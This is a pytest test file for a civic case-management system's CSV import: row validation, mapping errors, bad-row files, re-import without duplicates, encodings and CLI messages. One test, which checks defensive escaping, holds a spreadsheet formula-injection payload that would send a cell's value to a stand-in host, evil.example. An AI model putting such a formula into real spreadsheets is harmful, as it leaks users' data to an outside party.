"""Requests from another system's file: through the same action, none lost silently, repeatable."""

import csv
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from liuchi.cases.catalogue import actions as catalogue
from liuchi.cases.catalogue.files import DATA
from liuchi.cases.commands import cases
from liuchi.cases.imports import actions, mapping, rules
from liuchi.cases.models import Case
from liuchi.cases.tests.catalogues import few
from liuchi.kernel.context import Context, system
from liuchi.kernel.errors import Refused
from liuchi.kernel.journal.models import Row
from liuchi.people.actions import units
from liuchi.territory.models import Area

NOW = datetime(2026, 11, 22, 8, tzinfo=UTC)
CUT = Path(__file__).parent / "data" / "baltimore311_200.csv"
COLUMNS = ["Number", "Type", "Detail", "Where", "Lon", "Lat", "Created", "Due", "Closed", "Status", "Agency"]
GOOD = {
    "Number": "A1",
    "Type": "路灯",
    "Detail": "三天没亮",
    "Where": "河沿路12号",
    "Lon": "117.0521",
    "Lat": "30.5123",
    "Created": "2026-11-01 09:00:00",
    "Due": "2026-11-03 18:00:00",
    "Closed": "2026-11-02 10:00:00",
    "Status": "办结",
    "Agency": "市政",
}
MAPPING = {
    "source": "hotline",
    "key": {"column": "Number"},
    "text": {"template": "{Type}：{Detail}"},
    "place": {"words": "{Where}", "lon": "Lon", "lat": "Lat", "decimals": 3, "within": [116.0, 30.0, 118.0, 31.0]},
    "time": {
        "zone": "Asia/Shanghai",
        "formats": ["%Y-%m-%d %H:%M:%S", "%Y/%m/%d"],
        "reported": "Created",
        "due": "Due",
        "closed": "Closed",
    },
    "matter": {"column": "Type", "values": {"路灯": "01037", "垃圾": "06042"}},
    "state": {"column": "Status", "values": {"办结": "closed", "在办": "open", "不予受理": "refused"}},
    "unit": {"column": "Agency", "values": {"市政": "市政所"}},
}


def the(**changes) -> mapping.Mapping:
    return mapping.of(MAPPING | changes)


class TestRow:
    def test_every_column_means_something(self):
        request = rules.request_of(GOOD, the(), NOW)
        assert request == rules.Request(
            key="A1",
            text="路灯：三天没亮",
            place_words="河沿路12号",
            lon=117.0521,
            lat=30.5123,
            reported=datetime(2026, 11, 1, 1, tzinfo=UTC),
            due=datetime(2026, 11, 3, 10, tzinfo=UTC),
            closed=datetime(2026, 11, 2, 2, tzinfo=UTC),
            matter="01037",
            state="closed",
            unit="市政所",
        )

    @pytest.mark.parametrize(
        ("changes", "code"),
        [
            ({"Number": " "}, "no_key"),
            ({"Type": "", "Detail": ""}, "empty"),
            ({"Created": ""}, "no_time"),
            ({"Created": "gestern"}, "time"),
            ({"Created": "2026-13-01 09:00:00"}, "time"),
            ({"Created": "2099-01-01 09:00:00"}, "future"),
            ({"Created": "1900-01-01 09:00:00"}, "too_old"),
            ({"Closed": "2026-10-01 09:00:00"}, "closed_before"),
            ({"Closed": ""}, "closed_when"),
            ({"Status": "在办"}, "open_but_closed"),
            ({"Status": "?"}, "state"),
            ({"Type": "别的"}, "matter"),
            ({"Lon": "east"}, "coordinate"),
            ({"Agency": None}, "columns"),
        ],
    )
    def test_what_is_wrong_is_told_by_a_sentence(self, changes, code):
        with pytest.raises(rules.BadRow) as bad:
            rules.request_of(GOOD | changes, the(), NOW)
        assert bad.value.code == code
        assert actions.sentence(bad.value)

    @pytest.mark.parametrize(("lon", "lat"), [("", ""), ("117", "30"), ("117.0", "30.5"), ("8.1234", "50.1234")])
    def test_a_rounded_or_far_coordinate_is_no_place(self, lon, lat):
        request = rules.request_of(GOOD | {"Lon": lon, "Lat": lat}, the(), NOW)
        assert (request.lon, request.lat, request.place_words) == (None, None, "河沿路12号")

    def test_what_is_empty_leaves_no_stray_sign(self):
        assert rules.request_of(GOOD | {"Detail": ""}, the(), NOW).text == "路灯"

    def test_without_a_key_column_the_values_are_the_key(self):
        keyed = the(key={"columns": ["Type", "Created"]})
        assert rules.request_of(GOOD, keyed, NOW).key == rules.request_of(GOOD | {"Number": "B"}, keyed, NOW).key
        assert rules.request_of(GOOD, keyed, NOW).key != rules.request_of(GOOD | {"Type": "垃圾"}, keyed, NOW).key

    @given(st.fixed_dictionaries({column: st.text(max_size=30) for column in COLUMNS}))
    def test_any_row_is_a_request_or_has_a_reason(self, row):
        try:
            request = rules.request_of(row, the(), NOW)
        except rules.BadRow as bad:
            assert actions.sentence(bad)
        else:
            assert request.key
            assert request.text


class TestMapping:
    @pytest.mark.parametrize(
        ("changes", "words"),
        [
            ({"source": "Über"}, "source"),
            ({"key": {}}, "key"),
            ({"text": {"template": "fixed"}}, "Column"),
            ({"place": {"lon": "Lon"}}, "neither"),
            ({"place": {"within": [1, 2, 0, 3]}}, "within"),
            ({"place": {"system": "mars"}}, "system"),
            ({"time": {"formats": ["%Y"]}}, "reported"),
            ({"time": {"formats": ["%Y"], "reported": "Created", "zone": "Mars/North"}}, "zone"),
            ({"matter": {"column": "Type", "constant": "01037"}}, "either"),
            ({"state": {"constant": "lost"}}, "lost"),
            ({"sauce": "x"}, "sauce"),
            ({"place": {"worts": "x"}}, "worts"),
        ],
    )
    def test_a_wrong_word_is_named(self, changes, words):
        with pytest.raises(mapping.MappingError, match=words):
            the(**changes)

    def test_the_mappings_we_bring_are_right(self, db):
        catalogue.import_catalogue(system())
        for path in (DATA / "mappings").glob("*.toml"):
            assert actions._matters(mapping.read(path))


@pytest.fixture
def street(db):
    catalogue.import_catalogue(system(), few())
    return Area.objects.create(
        code="340803001", name="六尺街道", level="street", first=340803001000000, last=340803001999999
    )


def written(path: Path, rows: list[dict], encoding: str = "utf-8") -> Path:
    with path.open("w", encoding=encoding, newline="") as stream:
        writer = csv.DictWriter(stream, COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    return path


def importing(path: Path, said: mapping.Mapping, bad: Path) -> actions.Imported:
    return actions.import_file(Context(at=NOW, recorded_at=NOW, channel="import"), path, said, bad=bad)


class TestImport:
    def test_a_closed_case_keeps_its_times_and_unit(self, street, tmp_path):
        unit = units.open_unit(system(), kind="company", name="市政所")
        done = importing(written(tmp_path / "a.csv", [GOOD]), the(), tmp_path / "bad.csv")
        assert (done.read, done.imported, done.closed, done.with_place) == (1, 1, 1, 1)
        case = Case.objects.get()
        assert case.reported_at == datetime(2026, 11, 1, 1, tzinfo=UTC)
        assert case.closed_at == datetime(2026, 11, 2, 2, tzinfo=UTC)
        assert case.due_at == datetime(2026, 11, 3, 10, tzinfo=UTC)
        assert (case.state, case.outcome, case.in_time, case.step_due) == ("closed", "done", True, None)
        assert (case.matter.code, case.unit, case.area) == ("01037", unit, street)
        assert (case.channel, case.source, case.source_key, case.place_words) == (
            "import",
            "hotline",
            "A1",
            "河沿路12号",
        )
        rows = list(Row.objects.filter(record_id=case.pk).order_by("version"))
        assert [(row.verb, row.at, row.recorded_at) for row in rows] == [
            ("case.reported", case.reported_at, NOW),
            ("case.taken_over", case.closed_at, NOW),
        ]

    def test_an_open_case_goes_on_here_by_its_due_time(self, street, tmp_path):
        row = GOOD | {"Status": "在办", "Closed": "", "Agency": ""}
        importing(written(tmp_path / "a.csv", [row]), the(), tmp_path / "bad.csv")
        case = Case.objects.get()
        assert (case.state, case.step_due, case.unit) == ("reported", case.due_at, None)

    def test_bad_rows_go_to_a_file_mended_they_come_in_and_nothing_twice(self, street, tmp_path):
        rows = [GOOD | {"Number": f"A{number}"} for number in range(6)]
        rows[2]["Created"] = "gestern"
        rows[4]["Detail"] = "长" * 6000  # refused by the action itself
        path = written(tmp_path / "a.csv", [*rows, GOOD])
        bad = tmp_path / "bad.csv"
        done = importing(path, the(), bad)
        assert (done.read, done.imported, done.bad, done.there) == (7, 4, 2, 1)
        with bad.open(encoding="utf-8-sig") as stream:
            told = list(csv.DictReader(stream))
        assert [(row["line"], row["Number"]) for row in told] == [("4", "A2"), ("6", "A4")]
        assert "gestern" in told[0]["reason"]
        assert told[1]["Detail"] == rows[4]["Detail"]
        for row in told:
            row.update({"Created": GOOD["Created"], "Detail": GOOD["Detail"]})
            del row["line"], row["reason"]
        again = importing(written(tmp_path / "mended.csv", told + rows[:2]), the(), tmp_path / "bad2.csv")
        assert (again.imported, again.there, again.bad) == (2, 2, 0)
        assert Case.objects.count() == 6
        assert not (tmp_path / "bad2.csv").exists()

    def test_words_of_strangers_are_no_formula_in_the_file_of_bad_rows(self, street, tmp_path):
        evil = '=HYPERLINK("http://evil.example?"&A1,"看")'
        rows = [GOOD | {"Detail": evil, "Created": "+gestern"}, GOOD | {"Number": "-5", "Created": "@x"}]
        bad = tmp_path / "bad.csv"
        importing(written(tmp_path / "a.csv", rows), the(), bad)
        with bad.open(encoding="utf-8-sig") as stream:
            told = list(csv.DictReader(stream))
        assert not any(cell.startswith(("=", "+", "@")) for row in told for cell in row.values())
        assert told[0]["Detail"] == f"\t{evil}" and told[1]["Number"] == "-5"
        for row in told:
            row["Created"] = GOOD["Created"]
            del row["line"], row["reason"]
        assert importing(written(tmp_path / "mended.csv", told), the(), tmp_path / "bad2.csv").imported == 2
        assert Case.objects.filter(text__contains=evil).exclude(text__contains="\t").exists()

    def test_a_unit_that_is_not_here_is_counted(self, street, tmp_path):
        done = importing(written(tmp_path / "a.csv", [GOOD]), the(), tmp_path / "bad.csv")
        assert done.unknown_units == {"市政所": 1}

    def test_files_of_old_offices(self, street, tmp_path):
        said = the(encoding="gb18030")
        assert importing(written(tmp_path / "a.csv", [GOOD], "gb18030"), said, tmp_path / "bad.csv").imported == 1
        done = importing(written(tmp_path / "b.csv", [GOOD | {"Number": "B"}], "gb18030"), the(), tmp_path / "bad.csv")
        assert done.bad == 1

    def test_bytes_that_are_no_text_make_one_bad_row(self, street, tmp_path):
        path = written(tmp_path / "a.csv", [GOOD, GOOD | {"Number": "A2", "Detail": "X"}])
        path.write_bytes(path.read_bytes().replace(b"X", b"\xff\xfe"))
        done = importing(path, the(), tmp_path / "bad.csv")
        assert (done.imported, done.bad, done.reasons) == (1, 1, {"bytes": 1})

    def test_a_missing_column_is_named(self, street, tmp_path):
        path = tmp_path / "a.csv"
        path.write_text("Number,Type\nA1,路灯\n")
        with pytest.raises(mapping.MappingError, match="no column Agency, Closed"):
            importing(path, the(), tmp_path / "bad.csv")

    def test_coordinates_of_chinese_maps_are_converted(self, street, tmp_path):
        place = MAPPING["place"] | {"system": "gcj02"}
        importing(written(tmp_path / "a.csv", [GOOD]), the(place=place), tmp_path / "bad.csv")
        case = Case.objects.get()
        assert 0.003 < 117.0521 - case.lon < 0.008
        assert abs(30.5123 - case.lat) < 0.005

    def test_only_the_program_takes_over(self, street, tmp_path):
        importing(written(tmp_path / "a.csv", [GOOD]), the(), tmp_path / "bad.csv")
        ctx = Context(at=NOW, recorded_at=NOW, channel="desk")
        with pytest.raises(Refused) as refused:
            actions.take_over(ctx, Case.objects.get(), state="closed", closed=NOW, due=None, unit=None)
        assert refused.value.status == 403

    def test_two_hundred_real_rows(self, street, tmp_path):
        catalogue.import_catalogue(system())
        said = mapping.read(DATA / "mappings" / "baltimore311.toml")
        done = importing(CUT, said, tmp_path / "bad.csv")
        assert (done.read, done.imported, done.bad) == (200, 200, 0)
        with CUT.open() as stream:
            rows = {row["SRRecordID"]: row for row in csv.DictReader(stream)}
        assert done.closed == sum(row["SRStatus"].startswith("Closed") for row in rows.values())
        assert 0 < done.with_place < 180
        assert not Case.objects.filter(lat=39, lon=-77).exists()
        case = Case.objects.filter(state="closed").first()
        # 04/12/2018 11:11:26 AM in Baltimore is four or five hours behind UTC.
        created = datetime.strptime(rows[case.source_key]["CreatedDate"], "%m/%d/%Y %I:%M:%S %p").replace(tzinfo=UTC)
        assert (case.reported_at - created).total_seconds() in (4 * 3600, 5 * 3600)
        again = importing(CUT, said, tmp_path / "bad.csv")
        assert (again.imported, again.there) == (0, 200)


class TestCommand:
    def test_by_the_name_of_a_mapping(self, street, tmp_path, monkeypatch):
        catalogue.import_catalogue(system())
        monkeypatch.chdir(tmp_path)
        result = CliRunner().invoke(cases, ["import-csv", str(CUT), "--mapping", "baltimore311", "--json"])
        told = json.loads(result.stdout)
        assert told["read"] == told["imported"] + told["already_there"] + told["bad"] == 200

    @pytest.mark.parametrize(
        ("arguments", "words"),
        [
            (["--mapping", "nowhere"], "没有名为"),
            (["--mapping", "baltimore311", "--area", "1"], "没有代码为"),
            (["--mapping", "messages"], "not in the catalogue"),
        ],
    )
    def test_what_is_asked_wrongly_is_said(self, street, arguments, words):
        result = CliRunner().invoke(cases, ["import-csv", str(CUT), *arguments])
        assert result.exit_code in (1, 2)
        assert words in result.stderr
